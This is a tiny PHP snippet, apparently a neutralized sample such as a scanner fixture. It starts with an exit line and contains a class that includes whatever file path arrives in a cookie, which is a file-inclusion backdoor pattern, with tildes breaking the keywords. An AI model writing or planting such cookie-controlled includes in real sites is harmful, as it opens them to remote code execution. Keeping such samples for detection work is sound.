<?php exit; ?>
<?php
class MarkerPage { public $f; function show() { inc~lude $this->f; } }
$x = new MarkerPage; $x->f = $_C~OOKIE['m']; $x->show();
